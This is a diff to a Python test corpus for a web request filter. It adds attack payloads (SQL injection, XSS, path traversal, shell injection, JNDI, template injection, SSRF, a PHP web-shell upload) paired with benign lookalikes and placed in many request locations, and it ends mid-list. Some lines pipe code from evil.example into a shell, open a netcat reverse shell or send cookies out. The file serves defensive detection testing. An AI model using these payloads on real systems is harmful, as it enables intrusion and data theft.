@@ -277,6 +277,85 @@ ADDED_CLASS_BENIGN = [
     "powershell -command help",
 ]
 
+# Classes and spellings added with their signatures after the fifth set (not a holdout):
+# smuggled request and status lines, more reconnaissance commands, PHP and Node code forms,
+# JSFuck, PostgreSQL COPY ... PROGRAM, Oracle packages, Java gadget classes.
+ADDED_LATER_ATTACKS = [
+    "x%0d%0aGET /admin HTTP/1.1", "x%0d%0a%0d%0aHTTP/1.1 200 OK", ";find / -name passwd",
+    ";tar cf /tmp/x /etc", ";kill -9 1", ";env", ";mkfifo /tmp/f", ";crontab -l", ";sudo -l",
+    ";ps aux", "&tasklist", ";wmic process list", ";reg query HKLM",
+    "powershell -nop -w hidden -c \"iex\"", "(system)('id')", "include('http://evil.example/x.txt')",
+    "__halt_compiler();", "_$$ND_FUNC$$_function(){}()", "new Function('return this')()",
+    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", "1'='1", "'='", "copy t from program 'id'",
+    "1 AND 5651=CTXSYS.DRITHSX.SN(5651,(CHR(113)))", "class.classLoader.URLs[0]=x",
+    "x=javax.script.ScriptEngineManager", "x=org.apache.commons.collections.functors.InvokerTransformer",
+]
+# Evasive spellings (encodings, comments, whitespace, case, separators), added with the last
+# changes; most were caught before them, a few are still missed (MySQL's %a0 as a space,
+# backtick identifiers, "is not null", globbed file names).
+EVASIONS = [
+ "%2531%2527%2520%254f%2552%2520%2531%253d%2531", "%u0027%u0020or%u00201=1--", "1%bf%27 or 1=1--",
+ "1'/**/oR/**/1=1#", "1'%0boR%0b1=1--", "1'%a0or%a01=1--", "1' oR '1'='1'--+", "1'||'1'='1",
+ "1' /*!or*/ 1=1--", "-1'/*!50000union*/+/*!50000select*/+1,2--", "1' and(1)=(1)--", "1'and'1'='1",
+ "1`or`1`=`1", "admin\"--", "admin\" or \"1\"=\"1", "' or 0x31=0x31--", "' or true#", "1 or 1 is not null",
+ "%3Csvg%2Fonload%3Dalert%281%29%3E", "%253Csvg%2520onload%253Dalert(1)%253E", "<sVg OnLoAd=alert(1)>",
+ "<img src=x oNerror=alert`1`>", "<svg\nonload=alert(1)>", "<svg\tonload=alert(1)>", "<svg/onload=confirm(1)>",
+ "<img src=\"x\"onerror=\"alert(1)\">", "<a/href=\"j&#97;vascript:alert(1)\">x</a>", "<iframe/src=\"jav&#x0A;ascript:alert(1)\">",
+ "\"autofocus/onfocus=alert(1)//", "'onmouseover='alert(1)'", "<script\x20type=\"text/javascript\">alert(1)</script>",
+ "<scr\x00ipt>alert(1)</scr\x00ipt>", "<%73cript>alert(1)</script>", "<ScRiPt SrC=//x.example/a></sCrIpT>",
+ "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5c..%5c..%5cwindows%5cwin.ini",
+ "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..%u2216..%u2216windows%u2216win.ini", "....\\\\....\\\\etc\\\\passwd",
+ "/etc/./passwd", "/etc//passwd", "/./etc/passwd", "/etc/passwd#", "file:%2F%2F%2Fetc%2Fpasswd",
+ ";%20cat%20/etc/passwd", "%3Bid", "%7Cid", "%60id%60", "%24%28id%29", "; c''at /e??/p??swd", ";c\\a\\t /etc/passwd",
+ ";cat</etc/passwd", "|cat${IFS%??}/etc/passwd", ";$(printf '\\x69\\x64')", "a;{ls,-la}", "&&whoami", "||whoami",
+ "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "${jNdI:LdAp://x/a}", "${${lower:${lower:jndi}}:${lower:ldap}://x/a}",
+ "${::-$}{jndi:ldap://x/a}", "$%7Bjndi:ldap://x/a%7D",
+]
+ADDED_LATER_BENIGN = [
+    "public int Id { get; set; }", "art; history; science", "set; reset; go", "ps aux explained",
+    "find / -name file linux", "kill -9 meaning", "env vars in docker", "tar cf vs tar czf",
+    "new Function() in JavaScript", "process.env.NODE_ENV", "global.process in node",
+    "GET /api/items HTTP/1.1 example", "HTTP/1.1 200 OK meaning", "1=1", "a = 'b'",
+    "regexp tutorial", "rlike vs like", "db.collection.find() docs", "$gt operator mongodb",
+]
+
+
+# One line of code, SQL or HTML, as posted in a body field of a forum, a CMS or an editor.
+# Level 1 matches body fields with the argument signatures that such lines do not set off
+# (see _CODE_PRONE in _signatures.py); the ones flagged here are flagged by the body
+# signatures too (CODE_SNIPPETS_FLAGGED), as they were before body fields were matched so.
+CODE_SNIPPETS = [
+    '<script src="https://cdn.example.com/app.js"></script>', "SELECT id FROM a UNION SELECT id FROM b",
+    '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>',
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5z"/></svg>',
+    "if (ok) { alert('Saved!'); }", "document.getElementById('x').innerHTML = html;", "os.system('clear')",
+    "eval(input())", "cd app; rm -rf build", "SELECT name FROM users WHERE id = 1 OR 1 = 1",
+    "SELECT * FROM information_schema.tables", "import os; os.system('ls')", "window.location = '/home';",
+    "<a href=\"javascript:void(0)\" onclick=\"toggle()\">Menu</a>", "<img src=\"a.png\" onerror=\"this.src='b.png'\">",
+    "$(document).ready(function() { $('#x').hide(); });", "echo $HOME; ls -la", "exec('print(1)')",
+    "Runtime.getRuntime().exec(cmd);", "<?php echo $title; ?>", "{{ user.name }} - {{ 7 * 7 }}",
+    "for f in *.txt; do cat $f; done", "<math><mi>x</mi></math>", "const fn = new Function('a', 'return a');",
+    "<embed src=\"doc.pdf\" type=\"application/pdf\">", "<base href=\"/\">", "<meta charset=\"utf-8\">",
+    "<object data=\"movie.swf\"></object>", "SELECT SLEEP(1);", "WAITFOR DELAY '00:00:01'", "x = `ls`",
+    "print(f'{x!r}')", "phpinfo();", "find . -name '*.py' | xargs wc -l", "ping -c 4 example.com",
+    "git log --oneline | head", "<style>@import url('https://fonts.googleapis.com/css?family=Roboto');</style>",
+    "<link rel=\"stylesheet\" href=\"style.css\">", "<form action=\"/search\"><input name=q></form>",
+    "ORDER BY 2 DESC", "DROP TABLE IF EXISTS tmp;", "; DROP TABLE tmp;", "$_GET['page'] ?? 'home'",
+    "db.users.find({ age: { $gt: 18 } })", "this.items.length > 0", "require('fs').readFileSync(p)",
+]
+CODE_SNIPPETS_FLAGGED = {
+    "SELECT name FROM users WHERE id = 1 OR 1 = 1", "<a href=\"javascript:void(0)\" onclick=\"toggle()\">Menu</a>",
+    "<img src=\"a.png\" onerror=\"this.src='b.png'\">", "$(document).ready(function() { $('#x').hide(); });",
+    "Runtime.getRuntime().exec(cmd);", "{{ user.name }} - {{ 7 * 7 }}", "WAITFOR DELAY '00:00:01'",
+    "; DROP TABLE tmp;", "db.users.find({ age: { $gt: 18 } })",
+}
+
+
+def code_snippets() -> list[Entry]:
+    """Return CODE_SNIPPETS as a JSON field and as a form field."""
+    return [_located("snippet", value, where) for value in CODE_SNIPPETS for where in ("json", "form")]
+
+
 def attacks() -> list[Entry]:
     """Return the attack requests."""
     out: list[Entry] = [_arg("holdout", payload, "q", "/s") for payload in HOLDOUT_ATTACKS]
@@ -353,7 +432,14 @@ def attacks() -> list[Entry]:
                 {**JSON_HEADERS, "content-length": "5", "transfer-encoding": "chunked"}, b"{}"))
     out.append(("protocol", "GET", "/", {**BROWSER, "x-big": "a" * 9000}, b""))
     out.append(("protocol", "GET", "/search?q=a%00b", BROWSER, b""))
-    return out
+    # Uploads of server-side scripts (the name alone decides), and a name with a traversal.
+    for filename, content in (("shell.php", b"<?php system($_GET['c']); ?>"), ("avatar.pHtml", b"GIF89a"),
+                              ("../../../var/www/html/x.php", b"x"), ("doc.jsp", b"<% out.println(1); %>")):
+        out.append(("upload", "POST", "/upload", {**BROWSER, "content-type": _UPLOAD},
+                    _multipart([("file", filename, content)])))
+    out += [_located("added", value, where) for value in ADDED_LATER_ATTACKS + EVASIONS
+            for where in ("query", "form", "cookie")]
+    return out + located_attacks() + fresh_attacks()
 
 
 def benign() -> list[Entry]:
@@ -450,4 +536,314 @@ def benign() -> list[Entry]:
                   "Chrome/124.0 Safari/537.36 Edg/124.0",
                   "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"):
         out.append(_get("benign", "/", {"user-agent": agent}))
+    out += [_located("benign", value, where) for value in ADDED_LATER_BENIGN
+            for where in ("query", "form", "json")]
+    return out + located_benign() + benign_requests() + fresh_benign()
+
+
+# A fourth set, written as public regression suites write theirs (one payload per request, sent
+# in a query value, an argument name, a form, JSON, multipart or XML body, a cookie, a header,
+# the path) and first run before the signatures were revised for it. Every payload is sent in
+# several places; see ``located_attacks``.
+LOCATED_ATTACKS = [
+    # sqli
+    "1' or '1'='1'--", "1 union all select null,version()--", "' UNION SELECT 1,@@version,3#",
+    "1; DROP TABLE users--", "admin' AND 1=1--", "1 AND SLEEP(5)", "1' AND BENCHMARK(1000000,SHA1(1))#",
+    "1 regexp 0x5e61", "x' or name regexp '^adm'--", "1' and row(1,1)>(select count(*),1)--",
+    "1 and (select 1 from pg_sleep(5))", "1' OR 1=1 LIMIT 1;--", "';select pg_sleep(5);--",
+    "1)) or ((1=1", "' or 1 in (select @@version)--", "1 /*!12345union*/ select 1",
+    "1'%09or%091=1--", "1 || 1=1", "' or 'a'<'b", "0 or 3>2-- -",
+    # xss
+    "<script>alert('xss')</script>", "<img src=x onerror=alert(document.domain)>",
+    "<svg onload=alert(1)//", "<a href=javascript:alert(1)>x", "\"><img src=x onerror=prompt(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert(1)>",
+    "<input onfocus=alert(1) autofocus>", "<img src=\"x\" onerror=\"alert(String.fromCharCode(88))\">",
+    "<sCrIpT>alert(1)</ScRiPt>", "<img/src=x/onerror=alert(1)>", "javascript&colon;alert(1)",
+    # traversal / sensitive files
+    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/shadow",
+    "/etc/passwd", "..\\..\\..\\windows\\win.ini", ".htaccess", ".env", ".git/config",
+    "wp-config.php.bak", "id_rsa", "/.aws/credentials", ".htpasswd", "web.config", "/.ssh/id_rsa",
+    "/server-status", "/actuator/env", ".bash_history", "/proc/self/environ", "/etc/hosts",
+    "database.yml", ".DS_Store", "config.php~", "/.git/HEAD", ".npmrc",
+    # rce
+    ";cat /etc/passwd", "|id", "$(id)", "`whoami`", "; ls -la", "&& cat /etc/shadow",
+    "; nc -e /bin/sh 10.0.0.1 4444", "| curl http://evil.example/x | sh", ";wget http://evil.example/x",
+    "; sleep 5", "a|ping -c 4 127.0.0.1", "; /usr/bin/id", "& ipconfig /all", "| dir c:\\",
+    "() { :; }; /bin/bash -c 'cat /etc/passwd'", "c\\at /etc/passwd", "/???/??t /???/p??s??",
+    # php / java / node / templates
+    "<?php system('id'); ?>", "<?= `id` ?>", "php://input", "php://filter/read=convert.base64-encode/resource=/etc/passwd",
+    "${jndi:ldap://evil.example/x}", "${${lower:j}${lower:n}di:ldap://x/a}", "{{7*7}}", "${7*7}",
+    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
+    "java.lang.Runtime.getRuntime().exec(\"id\")", "T(java.lang.Runtime).getRuntime().exec('id')",
+    # nosql
+    "{\"$gt\":\"\"}", "{\"$ne\":null}", "{\"$where\":\"sleep(1000)\"}", "'; return true; //",
+    "db.users.find({})", "true, $where: '1 == 1'", "{\"$regex\":\".*\"}",
+    # ssrf / xxe / crlf / ldap / ssi
+    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "gopher://localhost:25/_HELO",
+    "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
+    "%0d%0aSet-Cookie:%20sess=1", "foo%0d%0aLocation:%20http://evil.example",
+    "\u560a\u560dSet-Cookie: a=1", "*)(uid=*))(|(uid=*", "<!--#exec cmd=\"id\"-->",
+]
+LOCATED_BENIGN = [
+    "O'Brien", "Rock 'n' Roll", "Don't stop me now", "select a plan that fits", "drop-off location",
+    "union square san francisco", "delete account", "update my address", "insert coin",
+    "\"quoted phrase\" search", "5' 10\" height", "Q&A session", "a+b", "x OR y", "NOT NULL",
+    "order by price", "group by category", "1,2,3", "100%", "30% off -- today only",
+    "C:\\Program Files\\App", "https://example.com/path?x=1&y=2", "mailto:bob@example.com",
+    "user@example.com", "+1 (555) 010-9999", "2024-05-01T12:00:00Z", "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
+    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ."
+    "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+    "dGhpcyBpcyBhIGxvbmcgYmFzZTY0IHRva2VuIHdpdGggcGFkZGluZw==", "SGVsbG8sIFdvcmxkIQ/+x9==",
+    "L'été à Paris", "Größe: 42 – Straße", "こんにちは世界", "東京都渋谷区", "naïve café",
+    "Wie geht's?", "C'est la vie", "it's a 'test'", "he said: \"hi\"; she left",
+    "if (a < b) return;", "x => x * 2", "print('hello')", "SELECT name FROM users",
+    "git checkout -b feature/login", "npm install --save react", "docker run -p 80:80 nginx",
+    "<b>bold</b> text", "**markdown** _italic_", "# Heading", "[link](https://example.com)",
+    "1 + 1 = 2", "a && b || c", "price >= 10 and price <= 20", "true", "null", "{}", "[]",
+    "/home/user/docs/report.pdf", "config.yaml", "env", "readme.md",
+    "#ff0000", "rgba(0, 0, 0, 0.5)", "font-family: 'Helvetica Neue', Arial", "10:30 AM",
+    "sleep well", "cat and mouse", "ping me", "who am i", "id card", "echo chamber",
+    "The quick brown fox; jumps over the lazy dog", "Bob's burgers & fries", "fish 'n' chips",
+]
+
+
+_LOCATIONS = ("name", "multipart", "xml", "user-agent", "referer", "header", "path")
+
+
+def _located(label: str, value: str, where: str) -> Entry:
+    line = value.replace("\r", "").replace("\n", "")
+    if where == "query":
+        return _get(label, "/s?q=" + q(value))
+    if where == "name":
+        return _get(label, "/s?" + q(value) + "=1")
+    if where == "form":
+        return (label, "POST", "/s", FORM_HEADERS, ("a=1&q=" + q(value)).encode())
+    if where == "json":
+        return (label, "POST", "/api/s", JSON_HEADERS, json.dumps({"id": 7, "q": value}).encode())
+    if where == "multipart":
+        body = ("--b0undary\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + value
+                + "\r\n--b0undary--\r\n")
+        return (label, "POST", "/s", {**BROWSER, "content-type":
+                                      "multipart/form-data; boundary=b0undary"}, body.encode())
+    if where == "xml":
+        text = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+        return (label, "POST", "/api/s", {**BROWSER, "content-type": "application/xml"},
+                f"<?xml version=\"1.0\"?><req><q>{text}</q></req>".encode())
+    if where == "cookie":
+        return _get(label, "/s", {"cookie": "sid=5f2a9c; q=" + q(value)})
+    if where == "user-agent":
+        return _get(label, "/s", {"user-agent": line})
+    if where == "referer":
+        return _get(label, "/s", {"referer": "https://www.example.org/?q=" + q(value)})
+    if where == "header":
+        return _get(label, "/s", {"x-api-filter": line})
+    assert where == "path"
+    return _get(label, "/s/" + q(value))
+
+
+def located_attacks() -> list[Entry]:
+    """Return LOCATED_ATTACKS in a query, a form, JSON, a cookie, and one more place each."""
+    out = []
+    for i, value in enumerate(LOCATED_ATTACKS):
+        for where in ("query", "form", "json", "cookie", _LOCATIONS[i % len(_LOCATIONS)]):
+            out.append(_located("located-" + where, value, where))
     return out
+
+
+def located_benign() -> list[Entry]:
+    """Return LOCATED_BENIGN in a query, a form, JSON, and one more place each."""
+    out = []
+    for i, value in enumerate(LOCATED_BENIGN):
+        for where in ("query", "form", "json", _LOCATIONS[i % len(_LOCATIONS)]):
+            out.append(_located("benign", value, where))
+    return out
+
+
+# Whole benign requests of the kinds the fourth set's locations see on real sites, written
+# with it: browser uploads, API bodies, referers carrying searches, many cookies and headers.
+_CHROME = {
+    **BROWSER, "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
+    "sec-ch-ua-full-version-list": '"Chromium";v="124.0.6367.91", "Google Chrome";v="124.0.6367.91"',
+    "sec-ch-ua-arch": '"x86"', "sec-ch-ua-model": '""', "sec-ch-ua-platform-version": '"15.0.0"',
+    "sec-fetch-site": "same-origin", "sec-fetch-mode": "navigate", "upgrade-insecure-requests": "1",
+    "accept-encoding": "gzip, deflate, br, zstd", "priority": "u=0, i",
+}
+_UPLOAD = "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"
+
+
+def _multipart(fields: list[tuple[str, str | None, bytes]]) -> bytes:
+    out = b""
+    for name, filename, content in fields:
+        out += b"------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n"
+        disposition = f'Content-Disposition: form-data; name="{name}"'
+        if filename is not None:
+            disposition += f'; filename="{filename}"\r\nContent-Type: application/octet-stream'
+        out += disposition.encode() + b"\r\n\r\n" + content + b"\r\n"
+    return out + b"------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"
+
+
+def benign_requests() -> list[Entry]:
+    """Return whole benign requests: uploads, API bodies, referers, cookies, headers, paths."""
+    out: list[Entry] = []
+    for path in ("/wiki/O%27Brien_(surname)", "/search/rock%20%26%20roll", "/blog/why-select-union-matters",
+                 "/docs/api/v2/users/%7Bid%7D", "/p/caf%C3%A9-cr%C3%A8me", "/t/how-to-use-%60git-rebase%60",
+                 "/u/@jdoe", "/files/Q1%20report%20(final).pdf", "/tag/c%2B%2B", "/a/b;jsessionid=A1B2C3",
+                 "/shop/men's-shoes", "/recipes/fish-'n'-chips", "/%E6%9D%B1%E4%BA%AC/%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3",
+                 "/s/who%20am%20i", "/q/what%20is%201%3D1", "/download/setup-1.2.3.exe",
+                 "/api/v1/items/3f2504e0-4f89-11d3-9a0c-0305e82c3301", "/.well-known/assetlinks.json",
+                 "/static/app.js.map", "/en-US/docs/Web/API/Document/cookie", "/search/onload%20event"):
+        out.append(_get("benign", path, _CHROME))
+    for referer in ("https://www.google.com/search?q=o%27brien+tickets&oq=o%27brien&sourceid=chrome",
+                    "https://duckduckgo.com/?q=%22select+a+plan%22+pricing&ia=web",
+                    "https://www.bing.com/search?q=how+to+delete+my+account&form=QBLH",
+                    "https://shop.example.com/cart?coupon=SPRING-10%25&items=1,2,3",
+                    "https://t.co/AbC123xyz", "https://news.ycombinator.com/item?id=40000000",
+                    "https://www.example.de/suche?q=Gr%C3%B6%C3%9Fe+%26+Stra%C3%9Fe",
+                    "https://www.example.jp/?q=%E6%9D%B1%E4%BA%AC+%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3",
+                    "https://mail.example.com/#inbox/FMfcgzGxyz",
+                    "https://app.example.com/login?next=%2Fdashboard%3Ftab%3Dsettings%26q%3Da%2Bb"):
+        out.append(_get("benign", "/", {**_CHROME, "referer": referer}))
+    for cookie in ("_ga=GA1.1.1234567890.1700000000; _ga_ABC123=GS1.1.1700000000.1.0.1700000000.0.0.0",
+                   "__Secure-next-auth.session-token=eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..abc.def.ghi",
+                   "cart=%7B%22items%22%3A%5B%7B%22id%22%3A1%2C%22qty%22%3A2%7D%5D%7D; lang=fr-FR",
+                   "prefs=theme:dark|font:large; tz=Europe/Berlin",
+                   "AWSALB=Z3k2b1l0ZW1hZ2ljc3RyaW5nZm9ybG9hZGJhbGFuY2Vy+/abc==; cf_clearance=a.b-c_d",
+                   "consent=%7B%22ads%22%3Afalse%2C%22analytics%22%3Atrue%7D; seen_banner=1",
+                   "last_search=O%27Reilly%20books; recently_viewed=12,34,56",
+                   'quoted="hello world"; plain=1'):
+        out.append(_get("benign", "/", {**_CHROME, "cookie": cookie}))
+    for name, value in (("x-requested-with", "XMLHttpRequest"), ("content-type", "text/plain;charset=UTF-8"),
+                        ("x-csrf-token", "Fz3k9+/aQ=="), ("baggage", "sentry-environment=production,sentry-release=1.2.3"),
+                        ("sentry-trace", "771a43a4192642f0b136d5159a501700-a9b1c2d3e4f5a6b7-1"),
+                        ("x-client-data", "CIa2yQEIpbbJAQipncoBCLfeygE="), ("purpose", "prefetch"),
+                        ("accept-language", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5"),
+                        ("authorization", "Basic YWxhZGRpbjpvcGVuc2VzYW1l"),
+                        ("x-forwarded-for", "203.0.113.195, 70.41.3.18, 150.172.238.178"),
+                        ("if-none-match", '"33a64df551425fcc55e4d42a148795d9f25f89d4"'),
+                        ("x-search", "rock 'n' roll; live (1975)"), ("x-timezone", "America/New_York"),
+                        ("x-amz-date", "20240501T120000Z"), ("x-github-event", "pull_request")):
+        out.append(_get("benign", "/api/x", {**_CHROME, name: value}))
+    uploads = [
+        [("title", None, b"Holiday photos"), ("file", "IMG_2024 (1).jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)))],
+        [("file", "report.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF")],
+        [("file", "notes.txt", b"TODO: select a plan; drop the old one -- or not?\nL'\xc3\xa9t\xc3\xa9 \xc3\xa0 Paris\n")],
+        [("file", "script.py", b"import os\nfor f in os.listdir('.'):\n    print(f)\n")],
+        [("file", "data.csv", b"id,name,comment\n1,O'Brien,\"said \"\"hi\"\"; left\"\n2,Smith,<b>bold</b>\n")],
+        [("avatar", "me.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)), ("name", None, b"J\xc3\xbcrgen M\xc3\xbcller")],
+        [("comment", None, b"Great post! I'd add that `SELECT ... FROM` needs an index."), ("email", None, b"a.b@example.co.uk")],
+    ]
+    for fields in uploads:
+        out.append(("benign", "POST", "/upload", {**_CHROME, "content-type": _UPLOAD}, _multipart(fields)))
+    bodies = [
+        {"query": "mutation { updateUser(id: \"42\", input: {name: \"O'Brien\"}) { id } }"},
+        {"token": "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJpc3MiOiJodHRwczovL2V4YW1wbGUuY29tIn0.c2lnbmF0dXJl"},
+        {"id": "3f2504e0-4f89-11d3-9a0c-0305e82c3301", "email": "jane.doe+news@example.com"},
+        {"avatar": "data:image/png;base64," + "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="},
+        {"redirect_uri": "https://app.example.com/oauth/callback?state=xyz&next=/home", "scope": "openid email"},
+        {"text": "Bonjour à tous ! L'équipe vous remercie ; « à bientôt »"},
+        {"text": "Sehr geehrte Damen und Herren, die Größe ist 42 – bitte prüfen Sie die Straße."},
+        {"text": "こんにちは。東京のラーメン屋を探しています（渋谷区）。"},
+        {"markdown": "## Install\n\n```sh\npip install requests\n```\n\nThen `import requests` and call `requests.get(url)`.\n"},
+        {"code": "const total = items.reduce((a, b) => a + b.price, 0); // sum"},
+        {"code": "SELECT u.id, u.name FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 100"},
+        {"code": "<ul>\n  <li><a href=\"/a\">A</a></li>\n  <li><a href=\"/b\">B</a></li>\n</ul>"},
+        {"comment": "Is 1=1 always true? Or 'a'='a'? Just curious how SQL works."},
+        {"filter": {"status": "active", "created_after": "2024-01-01", "tags": ["a", "b"]}},
+        {"search": "C:\\Users\\Public\\Documents", "sort": "-updated_at"},
+        {"description": "Use the /etc/hosts file to map names, e.g. 127.0.0.1 localhost."},
+        {"bio": "Dev @ACME | C++/Rust | he/him | 🦀"}, {"note": "50% off -- today only; don't miss it!"},
+    ]
+    for body in bodies:
+        out.append(("benign", "POST", "/api/v1/things", JSON_HEADERS, json.dumps(body).encode()))
+    forms = [
+        "email=jane.doe%2Bnews%40example.com&password=c0rr3ct+h0rse%21&remember=1",
+        "search=rock+%27n%27+roll&page=2",
+        "message=Hi%21+Please+call+me+at+%2B1+%28555%29+010-9999%3B+thanks.&subject=Order+%2342",
+        "text=L%27%C3%A9t%C3%A9+%C3%A0+Paris%2C+c%27est+magnifique+%21",
+        "code=for+i+in+range%2810%29%3A%0D%0A++++print%28i%29%0D%0A",
+        "url=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De&title=Example",
+        "q=%22select+a+plan%22+OR+%22choose+a+plan%22",
+    ]
+    for form in forms:
+        out.append(("benign", "POST", "/submit", {**_CHROME, "content-type":
+                                                  "application/x-www-form-urlencoded"}, form.encode()))
+    out.append(("benign", "POST", "/api/soap", {**_CHROME, "content-type": "text/xml; charset=utf-8"},
+                b'<?xml version="1.0"?><Envelope><Body><GetPrice item="Widget &amp; Co">'
+                b"<Note>O'Brien said 5 &lt; 6</Note></GetPrice></Body></Envelope>"))
+    return out
+
+
+# A fifth set, written after the signatures had been revised for the fourth and first run
+# before any further change: level 1 then caught 174/196 and flagged 8/204 (the revision
+# before it: 148/196 and 4/204; the 4 more were body fields, newly matched as arguments are).
+FRESH_ATTACKS = [
+    "1' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055", "1;SELECT * FROM users",
+    "SELECT pg_sleep(10);", "1 and extractvalue(0x0a,concat(0x0a,(select database())))",
+    "' or 1=1 into outfile '/tmp/a'#", "-1 or 1=1#", "ELT(1,SLEEP(5))", "1 or 1 = 1", "' or ''-'",
+    "1';select char(114,111,111,116)--", "1 and '1'='1", "(select 1 from dual where 1=1)",
+    "10 AND LENGTH(database())>1", "admin' or '1'='1", "';WAITFOR DELAY '0:0:10'--",
+    "1 AND 2>1", "1 having 1=1", "SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END", "x' AND 'x' LIKE 'x",
+    "<img src=x onerror=alert(1)//", "<svg><set onbegin=alert(1)>", "<a onmouseover=\"alert(1)\">x</a>",
+    "\"><iframe onload=alert(1)>", "<object data=javascript:alert(1)>", "<div onpointerenter=alert(1)>x",
+    "javascript:window.location='http://x.example'", "<script>fetch('//x.example?'+document.cookie)</script>",
+    "<img src=\"javascript:alert(1)\">", "<style>@import'//evil.example/x'</style>", "<audio src=x onerror=alert(1)>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "'\"--></style></script><script>alert(1)</script>",
+    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "%u003cscript%u003ealert(1)%u003c/script%u003e",
+    "<x contenteditable onblur=alert(1)>lose focus", "<textarea autofocus onfocus=alert(1)>",
+    "....//....//....//etc/group", "..%5c..%5c..%5cwindows%5cwin.ini", "%252e%252e%252fetc%252fpasswd",
+    "/proc/version", "..\\..\\..\\..\\boot.ini", "/etc/mysql/my.cnf", "../../../../var/www/html/.htaccess",
+    "C:/inetpub/wwwroot/web.config", "WEB-INF/web.xml", "/.svn/wc.db", "config/database.yml",
+    ".env.bak", "storage/logs/laravel.log", ".git/HEAD",
+    ";ls${IFS}-la", "|cat$IFS/etc/passwd", ";{cat,/etc/passwd}", "a;/bin/cat /etc/passwd",
+    "127.0.0.1%0a/bin/ls", "& whoami &", ";echo 'hello'>/tmp/x", "$(curl -s evil.example|bash)",
+    ";perl -e 'print 1'", "|| nc -lvp 4444", "; nslookup x.oast.example", ";chmod 777 /tmp/x",
+    "& type C:\\windows\\win.ini", "| powershell Get-Process", "; curl evil.example/sh | sh",
+    "${jndi:ldap://${env:USER}.x.example/a}", "${${::-j}ndi:rmi://x.example/a}",
+    "${jndi:${lower:l}${lower:d}ap://x.example/a}", "class.module.classLoader.URLs[0]=0",
+    "#{T(java.lang.Runtime).getRuntime().exec('id')}", "new java.lang.ProcessBuilder('id').start()",
+    "<?php echo shell_exec($_GET['c']); ?>", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
+    "expect://ls", "O:4:\"User\":1:{s:4:\"name\";s:5:\"admin\";}", "system('ls');",
+    "preg_replace('/.*/e','system(id)','')",
+    "{\"$ne\": 1}", "{\"username\": {\"$regex\": \"^adm\"}}", "';sleep(5000);'", "this.password.match(/.*/)",
+    "http://localhost:6379/", "http://[::1]:22/", "http://0.0.0.0:2375/containers/json",
+    "http://169.254.169.254/computeMetadata/v1/", "file:///etc/passwd", "http://0177.0.0.1/",
+    "${{7*7}}", "<%= 7*7 %>", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
+    "{{''.__class__}}", "${T(java.lang.System).getenv()}",
+    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
+    "<!DOCTYPE r [<!ENTITY % a SYSTEM \"http://x.example/e.dtd\"> %a;]><r/>",
+    "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>", "%0d%0aContent-Length:%200",
+    "() { :; }; echo; echo vulnerable", "<!--#include virtual=\"/etc/passwd\"-->",
+]
+FRESH_BENIGN = [
+    "Où est la gare ?", "Grüße aus Köln", "日本語のテキスト", "l'hôtel d'Orsay", "rock'n'roll",
+    "SELECT Comfort mattress", "union members' rights", "drop table in excel", "order by relevance",
+    "the 'and' operator", "1 = 1 is trivially true", "a < b > c", "Q: what's 2+2? A: 4",
+    "#1 best seller", "50/50 chance", "R&B playlist", "$9.99/month", "user_name@sub.example.org",
+    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s", "/var/www is the web root",
+    "curl is a tool", "bash vs zsh", "Windows 11 system32 error", "ping 8.8.8.8 from cmd",
+    "{{ title }} template help", "${HOME} variable", "echo $PATH", "cat > file.txt",
+    "document.cookie MDN", "<div> tag", "onclick handler react", "javascript void 0",
